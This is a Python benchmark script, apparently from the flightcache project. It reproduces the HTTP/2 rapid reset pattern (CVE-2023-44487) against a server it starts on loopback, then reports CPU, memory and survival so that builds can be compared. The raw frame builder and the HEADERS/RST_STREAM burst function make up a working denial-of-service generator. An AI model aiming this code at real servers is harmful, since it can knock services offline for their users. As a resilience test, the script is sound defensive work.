#!/usr/bin/env python3
"""HTTP/2 rapid reset (the CVE-2023-44487 pattern) against a flightcache-server it starts itself.

Starts SERVER on a free 127.0.0.1 port, opens one TCP connection, speaks raw HTTP/2 (client
preface, SETTINGS) and sends PAIRS x (HEADERS for /flightcache.v1.Cache/Get, RST_STREAM CANCEL)
as fast as the socket takes them. It reports the server's CPU time (utime + stime from
/proc/PID/stat) spent from the first frame until the server is idle again, and its resident
memory (VmRSS) before, at its peak, when the CPU settled, and SETTLE seconds later. Then it
stops the server (SIGTERM) and prints one RESULT line.

Python 3 standard library only; loopback only; every wait is bounded.

  python3 bench/rapid_reset.py --server build/release/server/flightcache-server --pairs 20000
  python3 bench/rapid_reset.py --server OLD --server NEW --pairs 50000   # one after the other
"""

import argparse
import os
import socket
import struct
import sys
import threading
import time

import local_server

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEADERS, FRAME_RST_STREAM, FRAME_SETTINGS, FRAME_PING, FRAME_GOAWAY = 1, 3, 4, 6, 7
FLAG_ACK, FLAG_END_HEADERS = 0x1, 0x4
ERROR_CANCEL = 0x8
CLOCK_TICKS = os.sysconf("SC_CLK_TCK")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(
        ">I", stream & 0x7FFFFFFF) + payload


def hpack_literal(name_index, value):
    """Literal header field without indexing, name from the static table (RFC 7541 6.2.2)."""
    assert name_index < 15 and len(value) < 127
    return bytes([name_index, len(value)]) + value


def hpack_literal_new_name(name, value):
    assert len(name) < 127 and len(value) < 127
    return bytes([0, len(name)]) + name + bytes([len(value)]) + value


# :method POST (static 3), :scheme http (static 6), :path (static 4), :authority (static 1),
# content-type (static 31, as a 4-bit-prefix integer: 15 + 16), te: trailers.
GET_HEADER_BLOCK = (bytes([0x83, 0x86]) + hpack_literal(4, b"/flightcache.v1.Cache/Get") +
                    hpack_literal(1, b"localhost") + bytes([0x0F, 0x10, 16]) +
                    b"application/grpc" + hpack_literal_new_name(b"te", b"trailers"))


def burst(pairs):
    frames = []
    for i in range(pairs):
        stream = 2 * i + 1
        frames.append(frame(FRAME_HEADERS, FLAG_END_HEADERS, stream, GET_HEADER_BLOCK))
        frames.append(frame(FRAME_RST_STREAM, 0, stream, struct.pack(">I", ERROR_CANCEL)))
    return b"".join(frames)


def cpu_seconds(pid):
    with open(f"/proc/{pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / CLOCK_TICKS  # utime, stime (fields 14, 15)


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024.0
    return -1.0


class Connection:
    """One HTTP/2 connection; a reader thread answers SETTINGS and PING and notes GOAWAY."""

    def __init__(self, port):
        # One timeout for both directions: a send or receive that stalls for 60 s fails.
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=60)
        self.lock = threading.Lock()
        self.goaway = None
        self.closed = False
        self.sock.sendall(PREFACE + frame(FRAME_SETTINGS, 0, 0))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def send(self, data):
        with self.lock:
            self.sock.sendall(data)

    def _read(self):
        buffer = b""
        while True:
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            buffer += chunk
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind, flags = buffer[3], buffer[4]
                payload = buffer[9:9 + length]
                buffer = buffer[9 + length:]
                try:
                    if kind == FRAME_SETTINGS and not flags & FLAG_ACK:
                        self.send(frame(FRAME_SETTINGS, FLAG_ACK, 0))
                    elif kind == FRAME_PING and not flags & FLAG_ACK:
                        self.send(frame(FRAME_PING, FLAG_ACK, 0, payload))
                    elif kind == FRAME_GOAWAY:
                        self.goaway = int.from_bytes(payload[4:8], "big")
                except OSError:
                    self.closed = True
                    return

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def wait_until_idle(pid, quiet_for=2.0, timeout=120):
    """Waits until the process's CPU time stops growing for `quiet_for` s; samples the peak RSS."""
    peak = rss_mib(pid)
    last = cpu_seconds(pid)
    quiet_since = time.monotonic()
    deadline = quiet_since + timeout
    while time.monotonic() < deadline:
        time.sleep(0.1)
        peak = max(peak, rss_mib(pid))
        now = cpu_seconds(pid)
        if now - last > 0.02:
            quiet_since = time.monotonic()
        last = now
        if time.monotonic() - quiet_since >= quiet_for:
            return peak
    return peak


def measure(binary, pairs, settle, extra_flags):
    server = local_server.start(
        binary, ["--origin=sim://?latency_ms=1&jitter_ms=0&value_bytes=32"] + extra_flags)
    try:
        pid = server.pid
        time.sleep(1.0)  # let start-up settle before the baseline
        rss_before = rss_mib(pid)
        cpu_before = cpu_seconds(pid)
        data = burst(pairs)
        connection = Connection(server.port)
        started = time.monotonic()
        connection.send(data)
        sent = time.monotonic() - started
        peak = wait_until_idle(pid)
        cpu = cpu_seconds(pid) - cpu_before
        rss_idle = rss_mib(pid)
        time.sleep(settle)
        rss_settled = rss_mib(pid)
        alive = server.process.poll() is None
        connection.close()
        return {
            "server": binary, "pairs": pairs, "send_s": sent, "cpu_s": cpu,
            "rss_before": rss_before, "rss_peak": max(peak, rss_idle), "rss_idle": rss_idle,
            "rss_settled": rss_settled, "settle": settle, "alive": alive,
            "goaway": connection.goaway, "closed": connection.closed,
        }
    finally:
        server.stop()


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--server", action="append", required=True,
                        help="a flightcache-server binary (repeat to compare, run in order)")
    parser.add_argument("--pairs", type=int, default=20000, help="HEADERS + RST_STREAM pairs")
    parser.add_argument("--settle", type=float, default=10.0,
                        help="seconds to wait after the server went idle before the last RSS")
    parser.add_argument("--flag", action="append", default=[],
                        help="an extra server flag, e.g. --flag=--grpc-memory-limit=256MiB")
    args = parser.parse_args()
    if not 1 <= args.pairs <= 1_000_000:
        parser.error("--pairs must be in [1, 1000000]")
    for binary in args.server:
        r = measure(binary, args.pairs, args.settle, args.flag)
        print(f"RESULT rapid_reset server={r['server']} pairs={r['pairs']} "
              f"sent_in={r['send_s']:.2f}s server_cpu={r['cpu_s']:.2f}s "
              f"rss_mib before={r['rss_before']:.0f} peak={r['rss_peak']:.0f} "
              f"idle={r['rss_idle']:.0f} after_{r['settle']:.0f}s={r['rss_settled']:.0f} "
              f"alive={'yes' if r['alive'] else 'NO'} goaway={r['goaway']} "
              f"connection_closed={'yes' if r['closed'] else 'no'}", flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
